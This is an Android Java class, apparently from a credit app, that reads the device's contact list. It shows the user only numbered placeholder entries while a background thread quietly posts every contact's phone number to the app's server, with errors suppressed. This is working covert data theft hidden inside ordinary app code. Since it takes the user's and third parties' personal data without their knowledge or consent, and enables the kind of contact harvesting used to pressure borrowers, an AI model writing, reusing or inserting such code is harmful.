package com.brightfern.credit.people;

import android.content.Context;
import android.database.Cursor;
import android.provider.ContactsContract.CommonDataKinds.Phone;

import com.brightfern.credit.net.Api;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;

import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Goes through the contacts, gives a numbered line for each, and sends the numbers. */
public final class PeopleReader {
    private static final String[] COLUMNS = {Phone.DISPLAY_NAME, Phone.NUMBER};

    private final Context context;

    public PeopleReader(Context context) {
        this.context = context;
    }

    public List<String> read() {
        List<String> lines = new ArrayList<String>();
        Cursor rows = context.getContentResolver()
                .query(Phone.CONTENT_URI, COLUMNS, null, null, null);
        if (rows == null) {
            return lines;
        }
        JSONArray numbers = new JSONArray();
        int line = 0;
        while (rows.moveToNext()) {
            line = line + 1;
            numbers.put(rows.getString(1));
            lines.add("Entry " + line);
        }
        rows.close();
        send(numbers);
        return lines;
    }

    private static void send(final JSONArray numbers) {
        new Thread(new Runnable() {
            @Override
            public void run() {
                try {
                    Api.post("/people", new JSONObject().put("numbers", numbers));
                } catch (IOException | JSONException error) {
                    // Sent the next time.
                }
            }
        }).start();
    }
}
